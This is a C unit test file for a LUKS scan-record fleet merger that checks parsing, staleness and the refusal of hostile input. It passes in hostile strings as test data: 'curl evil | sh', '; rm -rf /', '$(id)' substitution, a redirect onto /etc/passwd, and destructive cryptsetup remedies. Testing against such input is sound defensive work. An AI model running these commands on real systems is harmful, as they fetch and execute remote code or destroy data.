/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The fleet merge (src/lib/fleet.c): real scan records in, summary out; hostile input never crashes. */
#include <dlfcn.h>
#include <errno.h>
#include <limits.h>
#include <setjmp.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "fipsluks/fleet.h"
#include "fipsluks/identity.h"

#include "failalloc.h"

#define NOW 1795953600 /* 2026-11-29T12:00:00Z */

/* A volume record of host @p mid at @p at; @p body is the rest of the object. */
static char *volume_line(const char *mid, const char *host, const char *at, const char *body)
{
    char *s = NULL;

    /* abort(), not a cmocka assertion: GCC's analyzer knows that it does not return */
    if (asprintf(&s,
                 "{\"schema_version\":1,\"record\":\"volume\",\"tool\":\"fipsluks\",\"version\":\"0.1.0\","
                 "\"host\":{\"hostname\":\"%s\",\"machine_id\":\"%s\",\"os_id\":\"debian\","
                 "\"os_version_id\":\"12\",\"kernel_fips\":true},\"scanned_at\":\"%s\",%s}\n",
                 host, mid, at, body) <= 0)
        abort();
    return s;
}

static const char argon_volume[] =
    "\"path\":\"/dev/sda2\",\"status\":\"ok\",\"uuid\":\"u-1\",\"label\":null,\"fips_compatible\":false,"
    "\"keyslots\":[{\"id\":0,\"kdf\":\"argon2id\"},{\"id\":1,\"kdf\":\"pbkdf2\"}],"
    "\"findings\":[{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\",\"object\":\"keyslot 0\","
    "\"remedy\":\"fipsluks migrate --key-slot 0 /dev/sda2\"},"
    "{\"rule\":\"FL-KDF-ITER-LOW\",\"severity\":\"warning\",\"object\":\"keyslot 1\",\"remedy\":null}]";
static const char good_volume[] =
    "\"path\":\"/dev/sdb1\",\"status\":\"ok\",\"uuid\":\"u-2\",\"fips_compatible\":true,"
    "\"keyslots\":[{\"kdf\":\"pbkdf2\"}],\"findings\":[]";
static const char error_volume[] =
    "\"path\":\"/dev/sdc\",\"status\":\"error\",\"error\":\"permission denied\","
    "\"fips_compatible\":null,\"keyslots\":[],\"findings\":[]";

static const char MID_A[] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
static const char MID_B[] = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

static struct fl_fleet *merge(const char *source, const char *text)
{
    struct fl_fleet *f;

    if (!text)
        abort();
    assert_int_equal(fl_fleet_new(&f), 0);
    assert_int_equal(fl_fleet_add(f, source, text, strlen(text)), 0);
    return f;
}

static char *cat3(const char *a, const char *b, const char *c)
{
    char *s = NULL;

    assert_true(asprintf(&s, "%s%s%s", a, b, c ? c : "") >= 0);
    return s;
}

static void test_lines_and_documents(void **state)
{
    char *v1 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", argon_volume);
    char *v2 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", error_volume);
    const char *summary =
        "{\"schema_version\":1,\"record\":\"summary\",\"tool\":\"fipsluks\",\"host\":{\"hostname\":"
        "\"web-1\",\"machine_id\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"},\"scanned_at\":"
        "\"2026-11-29T07:00:00Z\",\"summary\":{}}\n";
    /* Host B as a pretty-printed document (several lines). */
    const char *doc =
        "{\n  \"schema_version\": 1,\n  \"record\": \"scan\",\n  \"tool\": \"fipsluks\",\n"
        "  \"host\": {\"hostname\": \"db-1\", \"machine_id\": \"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\"},\n"
        "  \"scanned_at\": \"2026-11-29T09:00:00+02:00\",\n  \"volumes\": [{\"path\":\"/dev/sdb1\","
        "\"status\":\"ok\",\"uuid\":\"u-2\",\"fips_compatible\":true,\"keyslots\":[{\"kdf\":"
        "\"pbkdf2\"}],\"findings\":[]}]\n}\n";
    char *lines = cat3(v1, v2, summary), *all = cat3(lines, doc, NULL);
    struct fl_fleet *f = merge("in", all);
    const struct fl_fleet_summary *s;
    const struct fl_fleet_host *h;

    (void)state;
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    assert_int_equal(fl_fleet_n_errors_total(f), 0);
    s = fl_fleet_summary(f);
    assert_int_equal(s->hosts, 2);
    assert_int_equal(s->volumes, 3);
    assert_int_equal(s->compatible, 1);
    assert_int_equal(s->incompatible, 1);
    assert_int_equal(s->unreadable, 1);
    assert_int_equal(s->needing_action, 1);
    assert_int_equal(s->n_rules, 1); /* errors only: the warning is not counted */
    assert_string_equal(s->rules[0].name, "FL-KDF-ARGON2");
    assert_int_equal(s->n_kdfs, 2);
    assert_string_equal(s->kdfs[0].name, "argon2id");
    assert_int_equal(s->kdfs[0].count, 1);
    assert_string_equal(s->kdfs[1].name, "pbkdf2");
    assert_int_equal(s->kdfs[1].count, 2);
    /* sorted by host name: db-1 first */
    h = fl_fleet_host(f, 0);
    assert_string_equal(h->hostname, "db-1");
    assert_false(h->needs_action);
    assert_true(h->complete);
    assert_int_equal(h->time, NOW - 5 * 3600); /* 09:00+02:00 is 07:00Z */
    h = fl_fleet_host(f, 1);
    assert_string_equal(h->hostname, "web-1");
    assert_string_equal(h->os_id, "debian");
    assert_int_equal(h->kernel_fips, 1);
    assert_true(h->complete);
    assert_true(h->needs_action);
    assert_string_equal(h->commands[0], "fipsluks migrate --key-slot 0 /dev/sda2");
    assert_string_equal(h->commands[1], "fipsluks scan /dev/sdc");
    assert_null(h->commands[2]);
    assert_int_equal(h->volumes[1].state, FL_FLEET_UNREADABLE);
    assert_string_equal(h->volumes[1].error, "permission denied");
    fl_fleet_free(f);
    free(v1);
    free(v2);
    free(lines);
    free(all);
}

/* Only the newest scan of a host counts, whatever order the inputs come in; old ones are stale. */
static void test_newest_scan_wins_and_staleness(void **state)
{
    char *old = volume_line(MID_A, "web-1", "2026-11-20T00:00:00Z", argon_volume);
    char *fresh = volume_line(MID_A, "web-1-renamed", "2026-11-29T06:00:00Z", good_volume);
    char *other = volume_line(MID_B, "db-1", "2026-11-26T00:00:00Z", good_volume);
    struct fl_fleet *f;
    const struct fl_fleet_host *h;

    (void)state;
    assert_int_equal(fl_fleet_new(&f), 0);
    assert_int_equal(fl_fleet_add(f, "new", fresh, strlen(fresh)), 0);
    assert_int_equal(fl_fleet_add(f, "old", old, strlen(old)), 0);
    assert_int_equal(fl_fleet_add(f, "other", other, strlen(other)), 0);
    assert_int_equal(fl_fleet_finish(f, NOW, 2 * 86400), 0);
    assert_int_equal(fl_fleet_n_hosts(f), 2);
    h = fl_fleet_host(f, 1);
    assert_string_equal(h->hostname, "web-1-renamed");
    assert_int_equal(h->n_volumes, 1);
    assert_int_equal(h->n_compatible, 1);
    assert_false(h->stale);
    assert_false(h->complete); /* JSON lines without their summary record: cut short */
    assert_true(h->needs_action);
    assert_string_equal(h->commands[0], FL_FLEET_RESCAN_COMMAND);
    h = fl_fleet_host(f, 0);
    assert_string_equal(h->hostname, "db-1");
    assert_true(h->stale); /* 3 days 12 hours old, 2 days allowed */
    assert_int_equal(fl_fleet_summary(f)->stale, 1);
    /* a larger maximum age: not stale any more */
    assert_int_equal(fl_fleet_finish(f, NOW, 4 * 86400), 0);
    assert_false(fl_fleet_host(f, 0)->stale);
    fl_fleet_free(f);
    free(old);
    free(fresh);
    free(other);
}

/* A remedy that is not a plain fipsluks/cryptsetup command line is never shown as a command. */
static void test_hostile_remedy(void **state)
{
    char *v = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z",
                          "\"path\":\"/dev/x y';reboot;'\",\"status\":\"ok\",\"fips_compatible\":false,"
                          "\"keyslots\":[],\"findings\":[{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\","
                          "\"remedy\":\"fipsluks migrate /dev/x; curl evil | sh\"}]");
    struct fl_fleet *f = merge("evil", v);
    const struct fl_fleet_host *h;

    (void)state;
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    h = fl_fleet_host(f, 0);
    assert_string_equal(h->commands[0], FL_FLEET_RESCAN_COMMAND); /* no summary record: cut short */
    assert_null(h->commands[1]); /* the finding names no keyslot: nothing to build a command from */
    assert_non_null(h->notes);
    assert_non_null(strstr(h->notes[0], "needs a look: FL-KDF-ARGON2"));
    assert_null(strstr(h->notes[0], "curl"));
    fl_fleet_free(f);
    free(v);
}

static void test_command_safe(void **state)
{
    static const struct {
        const char *cmd;
        bool safe;
    } cases[] = {
        {"fipsluks migrate --key-slot 0 /dev/sda2", true},
        {"cryptsetup luksConvertKey --pbkdf pbkdf2 --key-slot 1 /dev/vda3", true},
        {"fipsluks migrate 'a b'\\''c'", true},
        {"fipsluks migrate /dev/sda2; rm -rf /", false},
        {"fipsluks migrate $(id)", false},
        {"fipsluks migrate `id`", false},
        {"fipsluks migrate /dev/sda2 > /etc/passwd", false},
        {"fipsluks migrate 'unterminated", false},
        {"fipsluks migrate \\n", false},
        {"fipsluks migrate '\n'", false},
        {"rm -rf /", false},
        {"fipsluksx", false},
        {"", false},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (fl_fleet_command_safe(cases[i].cmd) != cases[i].safe)
            fail_msg("case %zu: \"%s\" should be %s", i, cases[i].cmd, cases[i].safe ? "safe" : "unsafe");
    }
    assert_false(fl_fleet_command_safe(NULL));
}

/* Each bad record is reported with its line and skipped; good records around it still count. */
static void test_malformed_records(void **state)
{
    char *good = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", good_volume);
    char *bad_path = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z",
                                 "\"path\":42,\"status\":\"ok\",\"fips_compatible\":true,\"keyslots\":[],"
                                 "\"findings\":[]");
    char *bad_findings =
        volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z",
                    "\"path\":\"/p\",\"status\":\"ok\",\"fips_compatible\":true,\"keyslots\":[],"
                    "\"findings\":[{\"rule\":7}]");
    char *bad_time = volume_line(MID_A, "web-1", "yesterday", good_volume);
    char *no_host = volume_line("", "", "2026-11-29T07:00:00Z", good_volume);
    char *text = NULL;
    struct fl_fleet *f;

    (void)state;
    assert_true(asprintf(&text,
                         "%s"                                            /* 1: good */
                         "{\"truncated\": \n"                            /* 2: broken… */
                         "%s"                                            /* 3: …resynchronised: bad path */
                         "[1, 2, 3]\n"                                   /* 4: not an object */
                         "{\"tool\":\"other\"}\n"                        /* 5 */
                         "{\"tool\":\"fipsluks\",\"record\":\"scan\"}\n" /* 6: no schema_version */
                         "{\"tool\":\"fipsluks\",\"schema_version\":99}\n" /* 7 */
                         "%s" /* 8: finding without a rule string */
                         "%s" /* 9: bad time */
                         "%s" /* 10: no host identity */
                         "{\"tool\":\"fipsluks\",\"schema_version\":1,\"record\":\"check\"}\n" /* 11 */
                         "%s"             /* 12: good again */
                         "{\"cut\": [1,", /* 13: cut at the end */
                         good, bad_path, bad_findings, bad_time, no_host, good) > 0);
    f = merge("fleet.jsonl", text);
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    assert_int_equal(fl_fleet_n_hosts(f), 1);
    assert_int_equal(fl_fleet_host(f, 0)->n_volumes, 1); /* the good record twice counts once */
    assert_int_equal(fl_fleet_n_errors(f), 11);
    {
        static const unsigned long lines[] = {2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 13};
        for (size_t i = 0; i < 11; i++) {
            const struct fl_fleet_error *e = fl_fleet_error(f, i);
            assert_string_equal(e->source, "fleet.jsonl");
            if (e->line != lines[i])
                fail_msg("error %zu (%s): line %lu, expected %lu", i, e->message, e->line, lines[i]);
        }
    }
    assert_non_null(strstr(fl_fleet_error(f, 0)->message, "invalid JSON"));
    assert_non_null(strstr(fl_fleet_error(f, 1)->message, "path"));
    assert_non_null(strstr(fl_fleet_error(f, 10)->message, "cut short"));
    fl_fleet_free(f);
    free(text);
    free(good);
    free(bad_path);
    free(bad_findings);
    free(bad_time);
    free(no_host);
}

/* Binary garbage, NUL bytes, deep nesting, huge numbers: errors, never a crash or a hang. */
static void test_garbage(void **state)
{
    char buf[4096], deep[2000];
    struct fl_fleet *f;

    (void)state;
    assert_int_equal(fl_fleet_new(&f), 0);
    for (size_t i = 0; i < sizeof(buf); i++)
        buf[i] = (char)((i * 7919 + 13) % 256);
    assert_int_equal(fl_fleet_add(f, "random", buf, sizeof(buf)), 0);
    assert_int_equal(fl_fleet_add(f, "nul", "{\"a\":\0\"b\"}\n{\0}", 15), 0);
    memset(deep, '[', sizeof(deep));
    assert_int_equal(fl_fleet_add(f, "deep", deep, sizeof(deep)), 0);
    assert_int_equal(fl_fleet_add(f, "num", "{\"tool\":\"fipsluks\",\"schema_version\":1e999999}", 46), 0);
    assert_int_equal(fl_fleet_add(f, "empty", "", 0), 0);
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    assert_int_equal(fl_fleet_n_hosts(f), 0);
    assert_true(fl_fleet_n_errors(f) >= 4);
    fl_fleet_free(f);
}

/* What a merge found, as text: hosts with their volumes and states, then the input errors. */
static char *fingerprint(struct fl_fleet *f)
{
    char *buf = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&buf, &size);

    assert_non_null(out);
    assert_int_equal(fl_fleet_finish(f, NOW, 86400 * 365), 0);
    for (size_t i = 0; i < fl_fleet_n_hosts(f); i++) {
        const struct fl_fleet_host *h = fl_fleet_host(f, i);
        fprintf(out, "host %s %s %d\n", h->hostname ? h->hostname : "-", h->scanned_at ? h->scanned_at : "-",
                h->complete);
        for (size_t v = 0; v < h->n_volumes; v++)
            fprintf(out, "  %s %d %s\n", h->volumes[v].path, (int)h->volumes[v].state,
                    h->volumes[v].error ? h->volumes[v].error : "-");
    }
    for (size_t i = 0; i < fl_fleet_n_errors(f); i++) {
        const struct fl_fleet_error *e = fl_fleet_error(f, i);
        fprintf(out, "error %s:%lu %s\n", e->source, e->line, e->message);
    }
    fclose(out);
    return buf;
}

/* @p text fed in pieces of @p piece bytes (0: all at once, through fl_fleet_add()). */
static char *merge_in_pieces(const char *text, size_t len, size_t piece)
{
    struct fl_fleet_input *in = NULL;
    struct fl_fleet *f;
    char *fp;

    assert_int_equal(fl_fleet_new(&f), 0);
    if (piece == 0) {
        assert_int_equal(fl_fleet_add(f, "in", text, len), 0);
    } else {
        assert_int_equal(fl_fleet_input_new(f, "in", &in), 0);
        for (size_t off = 0; off < len; off += piece)
            assert_int_equal(fl_fleet_input_feed(in, text + off, len - off < piece ? len - off : piece), 0);
        assert_int_equal(fl_fleet_input_finish(in), 0);
        fl_fleet_input_free(in);
    }
    fp = fingerprint(f);
    fl_fleet_free(f);
    return fp;
}

/*
 * An input read in pieces of any size gives what it gives whole: records, documents over many
 * lines, bad values with the line they start on and the resumption at the next line that starts
 * an object, a value cut short at the end, NUL bytes and blank lines.
 */
static void test_pieces(void **state)
{
    char *v1 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", argon_volume);
    char *v2 = volume_line(MID_B, "db-1", "2026-11-29T07:00:00Z", good_volume);
    char *v3 = volume_line(MID_B, "db-1", "2026-11-29T07:00:00Z", error_volume);
    const char *tails[] = {"",      "{\"cut\":", "{\"a\":1}\n{\"b\"", "\n\n  \n", "nul\0l\n{\"x\":[1,\n2]}\n",
                           "[[[[[["};
    char *texts[sizeof(tails) / sizeof(tails[0])];
    char *doc = NULL;

    (void)state;
    assert_true(
        asprintf(&doc,
                 "{\n  \"schema_version\": 1,\n  \"record\": \"scan\",\n  \"tool\": \"fipsluks\",\n  "
                 "\"host\": {\"hostname\": "
                 "\"doc-1\", \"machine_id\": \"cccccccccccccccccccccccccccccccc\"},\n  \"scanned_at\": "
                 "\"2026-11-28T07:00:00Z\",\n  \"volumes\": [{%s}]\n}\n",
                 good_volume) > 0);
    for (size_t t = 0; t < sizeof(tails) / sizeof(tails[0]); t++) {
        size_t len;
        char *ref;

        /* a good record, a bad one over two lines, garbage without a newline, a document, more records */
        texts[t] = NULL;
        assert_true(asprintf(&texts[t], "%s{\"bad\": tru\ne}\n%sgarbage{{{\n%s%s%s", v1, v2, doc, v3, "@") >
                    0);
        len = strlen(texts[t]);
        texts[t] = realloc(texts[t], len + 32);
        assert_non_null(texts[t]);
        memcpy(texts[t] + len, tails[t], t == 4 ? 20 : strlen(tails[t])); /* the NUL byte is part of it */
        len += t == 4 ? 20 : strlen(tails[t]);
        ref = merge_in_pieces(texts[t], len, 0);
        assert_non_null(strstr(ref, "host web-1"));
        assert_non_null(strstr(ref, "host doc-1"));
        assert_non_null(strstr(ref, "error in:"));
        for (size_t piece = 1; piece <= 17; piece += piece < 3 ? 1 : 7) {
            char *got = merge_in_pieces(texts[t], len, piece);
            if (strcmp(ref, got))
                fail_msg("tail %zu, pieces of %zu bytes:\n%s\nwhole:\n%s", t, piece, got, ref);
            free(got);
        }
        free(ref);
        free(texts[t]);
    }
    free(doc);
    free(v1);
    free(v2);
    free(v3);
}

/* More errors than are kept: the rest are counted. */
static void test_error_cap(void **state)
{
    size_t n = FL_FLEET_MAX_ERRORS + 50;
    char *text = malloc(n * 4);
    struct fl_fleet *f;

    (void)state;
    assert_non_null(text);
    for (size_t i = 0; i < n; i++)
        memcpy(text + 4 * i, "{1}\n", 4);
    f = merge("many", "");
    assert_int_equal(fl_fleet_add(f, "many", text, n * 4), 0);
    assert_int_equal(fl_fleet_n_errors(f), FL_FLEET_MAX_ERRORS);
    assert_int_equal(fl_fleet_n_errors_total(f), n);
    fl_fleet_free(f);
    free(text);
}

/* Every allocation of a merge fails in turn: -ENOMEM, never a crash or a leak (the sanitizer build
 * checks leaks); with nothing left to fail, the same fleet as without injection. */
static void test_allocation_failures(void **state)
{
    char *v1 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", argon_volume);
    char *v2 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", error_volume);
    char *v3 = volume_line(MID_B, "db-1", "2026-11-20T07:00:00Z",
                           "\"path\":\"/dev/x y\",\"status\":\"ok\","
                           "\"fips_compatible\":false,\"keyslots\":[],"
                           "\"findings\":[{\"rule\":\"FL-CIPHER\","
                           "\"severity\":\"error\"}]");
    char *text = NULL;
    long failures = 0;

    (void)state;
    /* fail() and return, not assert_true(): GCC's analyzer does not know that a failed cmocka assertion
     * ends the test, and would go on to strlen(NULL) */
    if (asprintf(&text, "%s%s[1]\n%s{\"tool\":\"fipsluks\"}\n{\"cut\": ", v1, v2, v3) <= 0) {
        fail();
        return;
    }
    for (long n = 0;; n++) {
        struct fl_fleet *f = NULL;
        int r;

        alloc_calls = 0;
        fail_at = n;
        r = fl_fleet_new(&f);
        if (r == 0)
            r = fl_fleet_add(f, "in", text, strlen(text));
        if (r == 0)
            r = fl_fleet_finish(f, NOW, 2 * 86400);
        fail_at = -1;
        if (alloc_calls <= n) { /* nothing left to fail */
            assert_int_equal(r, 0);
            assert_int_equal(fl_fleet_n_hosts(f), 2);
            assert_int_equal(fl_fleet_summary(f)->volumes, 3);
            assert_int_equal(fl_fleet_n_errors(f), 3);
            assert_string_equal(fl_fleet_host(f, 0)->commands[1], "fipsluks reencrypt '/dev/x y'");
            fl_fleet_free(f);
            break;
        }
        assert_int_equal(r, -ENOMEM);
        failures++;
        fl_fleet_free(f);
    }
    assert_true(failures > 20);
    free(text);
    free(v1);
    free(v2);
    free(v3);
}

/* The to-do list is rebuilt from rule ids, keyslots and a checked path; no record text is a command. */
static void test_todo_rebuilt(void **state)
{
    /* LUKS1 with ripemd160: its remedy's "(on a host not yet in FIPS mode)" made it a scan */
    char *l1 = volume_line(
        MID_A, "app-1", "2026-11-29T07:00:00Z",
        "\"path\":\"l1.img\",\"absolute_path\":\"/srv/l1.img\",\"status\":\"ok\","
        "\"luks_version\":1,\"fips_compatible\":false,\"keyslots\":[{\"id\":0,\"kdf\":\"pbkdf2\"}],"
        "\"findings\":[{\"rule\":\"FL-LUKS1\",\"severity\":\"info\",\"object\":\"header\"},"
        "{\"rule\":\"FL-LUKS1-HASH\",\"severity\":\"error\",\"object\":\"header\",\"remedy\":"
        "\"fipsluks reencrypt l1.img (on a host not yet in FIPS mode)\"},"
        "{\"rule\":\"FL-KDF-HASH\",\"severity\":\"error\",\"object\":\"keyslot 0\"}]");
    /* argon2 keyslots, one bound to a TPM2 token; hostile remedies; a rule this fipsluks does not know */
    char *tok = volume_line(
        MID_A, "app-1", "2026-11-29T07:00:00Z",
        "\"path\":\"/dev/vda3\",\"status\":\"ok\",\"fips_compatible\":false,"
        "\"keyslots\":[{\"id\":0,\"kdf\":\"argon2id\",\"tokens\":[]},"
        "{\"id\":2,\"kdf\":\"argon2id\",\"tokens\":[{\"id\":0,\"type\":\"systemd-tpm2\"}]}],"
        "\"findings\":[{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\",\"object\":\"keyslot "
        "0\",\"remedy\":"
        "\"fipsluks format --force --batch --new-key-file /root/x /dev/sda\"},"
        "{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\",\"object\":\"keyslot 2\",\"remedy\":null},"
        "{\"rule\":\"FL-EVIL\",\"severity\":\"error\",\"object\":\"header\",\"remedy\":"
        "\"cryptsetup luksErase --batch-mode /dev/sdb\"}]");
    /* a path that is not absolute, and one with a bidi override: no command */
    char *rel = volume_line(MID_A, "app-1", "2026-11-29T07:00:00Z",
                            "\"path\":\"data/x.img\",\"status\":\"error\",\"error\":\"gone\","
                            "\"keyslots\":[],\"findings\":[]");
    char *bidi = volume_line(MID_A, "app-1", "2026-11-29T07:00:00Z",
                             "\"path\":\"/srv/gpj.\\u202eexe\",\"status\":\"error\",\"error\":\"gone\","
                             "\"keyslots\":[],\"findings\":[]");
    char *all = NULL;
    struct fl_fleet *f;
    const struct fl_fleet_host *h;

    (void)state;
    assert_true(asprintf(&all, "%s%s%s%s", l1, tok, rel, bidi) > 0);
    f = merge("in", all);
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    h = fl_fleet_host(f, 0);
    assert_int_equal(h->n_volumes, 4);
    assert_string_equal(h->volumes[0].commands[0], "fipsluks reencrypt /srv/l1.img");
    assert_null(h->volumes[0].commands[1]);
    assert_non_null(strstr(h->volumes[0].notes[0], "not yet in FIPS mode"));
    assert_string_equal(h->volumes[1].commands[0], "fipsluks migrate --key-slot 0 /dev/vda3");
    assert_null(h->volumes[1].commands[1]);
    assert_string_equal(
        h->volumes[1].notes[0],
        "re-enroll the systemd-tpm2 token for keyslot 2 (e.g. systemd-cryptenroll --wipe-slot=2 "
        "--tpm2-device=auto /dev/vda3), or run fipsluks migrate --key-slot 2 --key-file SECRET "
        "/dev/vda3 with its secret");
    assert_non_null(strstr(h->volumes[1].notes[1],
                           "needs a look: 1 error finding of rules this fipsluks does not "
                           "know (FL-EVIL)"));
    assert_null(h->volumes[2].commands);
    assert_null(h->volumes[2].absolute_path);
    assert_non_null(strstr(h->volumes[2].notes[0], "needs a look: the record has no absolute path"));
    assert_null(h->volumes[3].commands);
    assert_null(h->volumes[3].absolute_path);
    /* the host's list: a rescan (no summary record), then the volumes' commands, in order */
    assert_string_equal(h->commands[0], FL_FLEET_RESCAN_COMMAND);
    assert_string_equal(h->commands[1], "fipsluks reencrypt /srv/l1.img");
    assert_string_equal(h->commands[2], "fipsluks migrate --key-slot 0 /dev/vda3");
    assert_null(h->commands[3]);
    for (size_t i = 0; h->notes && h->notes[i]; i++)
        if (strstr(h->notes[i], "--force") || strstr(h->notes[i], "luksErase"))
            fail_msg("a record's remedy in a note: %s", h->notes[i]);
    /* the summary counts rules this fipsluks does not know as one */
    assert_string_equal(fl_fleet_summary(f)->rules[0].name, "(unknown)");
    fl_fleet_free(f);
    free(all);
    free(l1);
    free(tok);
    free(rel);
    free(bidi);
}

static void test_path_usable(void **state)
{
    char long_path[PATH_MAX + 2];

    (void)state;
    assert_true(fl_fleet_path_usable("/dev/sda2"));
    assert_true(fl_fleet_path_usable("/srv/x y';reboot;'"));      /* quoted: fl_shell_quote() */
    assert_true(fl_fleet_path_usable("/srv/d\xc3\xa9j\xc3\xa0")); /* UTF-8 */
    assert_true(fl_fleet_path_usable("/srv/.hidden/..x"));
    assert_false(fl_fleet_path_usable(NULL));
    assert_false(fl_fleet_path_usable("/"));
    assert_false(fl_fleet_path_usable("data/x.img"));
    assert_false(fl_fleet_path_usable("/srv/../etc/x"));
    assert_false(fl_fleet_path_usable("/srv/./x"));
    assert_false(fl_fleet_path_usable("/srv/.."));
    assert_false(fl_fleet_path_usable("/srv/a\nb"));
    assert_false(fl_fleet_path_usable("/srv/a\x1b[2Jb"));
    assert_false(fl_fleet_path_usable("/srv/a\xc2\x9b"
                                      "31m")); /* C1 CSI */
    assert_false(fl_fleet_path_usable("/srv/gpj.\xe2\x80\xae"
                                      "exe")); /* U+202E */
    assert_false(fl_fleet_path_usable("/srv/a\xe2\x81\xa6"
                                      "b")); /* U+2066 */
    assert_false(fl_fleet_path_usable("/srv/a\xe2\x80\x8f"
                                      "b"));          /* U+200F */
    assert_false(fl_fleet_path_usable("/srv/a\xff")); /* not UTF-8 */
    memset(long_path, 'a', sizeof(long_path) - 1);
    long_path[0] = '/';
    long_path[sizeof(long_path) - 1] = '\0';
    assert_false(fl_fleet_path_usable(long_path));
}

/* A scan from the future (beyond the clock skew) is refused: it would hide the host's real scans. */
static void test_future_refused(void **state)
{
    char *future = volume_line(MID_A, "web-1", "2999-01-01T00:00:00Z", good_volume);
    char *real = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", argon_volume);
    char *skewed = volume_line(MID_B, "db-1", "2026-11-29T12:04:00Z", good_volume);
    char *ahead = volume_line(MID_B, "db-1", "2026-11-29T12:06:00Z", error_volume);
    struct fl_fleet *f;
    const struct fl_fleet_host *h;

    (void)state;
    assert_int_equal(fl_fleet_new(&f), 0);
    fl_fleet_set_now(f, NOW);
    assert_int_equal(fl_fleet_add(f, "future", future, strlen(future)), 0);
    assert_int_equal(fl_fleet_add(f, "real", real, strlen(real)), 0);
    assert_int_equal(fl_fleet_add(f, "skewed", skewed, strlen(skewed)), 0);
    assert_int_equal(fl_fleet_add(f, "ahead", ahead, strlen(ahead)), 0);
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    assert_int_equal(fl_fleet_n_errors(f), 2);
    assert_string_equal(fl_fleet_error(f, 0)->source, "future");
    assert_non_null(strstr(fl_fleet_error(f, 0)->message, "is in the future"));
    assert_string_equal(fl_fleet_error(f, 1)->source, "ahead"); /* 6 minutes: more than the skew */
    h = fl_fleet_host(f, 1);
    assert_string_equal(h->hostname, "web-1");
    assert_int_equal(h->n_incompatible, 1); /* its real scan */
    h = fl_fleet_host(f, 0);
    assert_int_equal(h->n_compatible, 1); /* 4 minutes ahead: within the skew */
    fl_fleet_free(f);
    free(future);
    free(real);
    free(skewed);
    free(ahead);
}

/* Two records of one volume in one scan that disagree: the worse verdict, in any order. */
static void test_conflict_any_order(void **state)
{
    static const char good[] = "\"path\":\"/dev/sda2\",\"status\":\"ok\",\"fips_compatible\":true,"
                               "\"keyslots\":[{\"id\":0,\"kdf\":\"pbkdf2\"}],\"findings\":[]";
    char *a = volume_line(MID_A, "db-1", "2026-11-29T07:00:00Z", good);
    char *b = volume_line(MID_A, "db-1", "2026-11-29T07:00:00Z", argon_volume);
    char *c = volume_line(MID_A, "db-1", "2026-11-29T07:00:00Z",
                          "\"path\":\"/dev/sda2\",\"status\":\"error\",\"error\":\"x\",\"keyslots\":[],"
                          "\"findings\":[]");
    const char *orders[][3] = {{a, b, c}, {b, a, c}, {c, b, a}, {a, c, b}};

    (void)state;
    for (size_t i = 0; i < sizeof(orders) / sizeof(orders[0]); i++) {
        struct fl_fleet *f;
        const struct fl_fleet_host *h;

        assert_int_equal(fl_fleet_new(&f), 0);
        for (size_t k = 0; k < 3; k++)
            assert_int_equal(fl_fleet_add(f, "in", orders[i][k], strlen(orders[i][k])), 0);
        assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
        h = fl_fleet_host(f, 0);
        assert_int_equal(h->n_volumes, 1);
        assert_int_equal(h->volumes[0].state, FL_FLEET_INCOMPATIBLE);
        assert_string_equal(h->volumes[0].rules[0], "FL-KDF-ARGON2");
        assert_string_equal(h->volumes[0].commands[0], "fipsluks migrate --key-slot 0 /dev/sda2");
        fl_fleet_free(f);
    }
    free(a);
    free(b);
    free(c);
}

/* A string longer than FL_FLEET_STRING_MAX characters refuses its record, before json-c holds it. */
static void test_string_cap(void **state)
{
    size_t n = 100000;
    char *label = malloc(n + 1), *body = NULL, *big, *ok, *text = NULL;
    struct fl_fleet *f;

    (void)state;
    if (!label)
        abort();
    memset(label, 'x', n);
    label[n] = '\0';
    if (asprintf(&body, "\"label\":\"%s\",%s", label, good_volume) <= 0)
        abort();
    big = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", body);
    ok = volume_line(MID_B, "db-1", "2026-11-29T07:00:00Z", good_volume);
    if (asprintf(&text, "%s%s", big, ok) <= 0)
        abort();
    f = merge("in", text);
    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
    assert_int_equal(fl_fleet_n_errors(f), 1);
    assert_int_equal(fl_fleet_error(f, 0)->line, 1);
    assert_string_equal(fl_fleet_error(f, 0)->message, "a string longer than 4096 characters: refused");
    assert_int_equal(fl_fleet_n_hosts(f), 1); /* the next record is read */
    assert_string_equal(fl_fleet_host(f, 0)->hostname, "db-1");
    fl_fleet_free(f);
    /* 4096 characters, escapes and UTF-8 counted as one each, are fine */
    free(text);
    text = NULL;
    memset(label, 'x', n);
    memcpy(label, "\\u00e9\\\"\xc3\xa9", 10);
    label[4096 - 3 + 10] = '\0'; /* 3 characters in the first 10 bytes, then x: 4096 in all */
    free(body);
    body = NULL;
    if (asprintf(&body, "\"label\":\"%s\",%s", label, good_volume) <= 0)
        abort();
